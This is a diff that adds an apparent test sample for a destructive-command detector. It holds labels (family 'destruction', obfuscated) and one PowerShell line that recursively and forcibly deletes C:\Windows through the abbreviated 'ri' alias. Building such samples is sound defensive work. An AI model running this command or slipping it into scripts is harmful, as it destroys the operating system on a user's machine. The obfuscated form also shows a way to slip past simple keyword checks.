@@ -1,0 +1,4 @@
+# description: Uses the ri alias with abbreviated switches to delete C:\Windows.
+# family: destruction
+# obfuscated: yes
+ri C:\Windows -r -fo
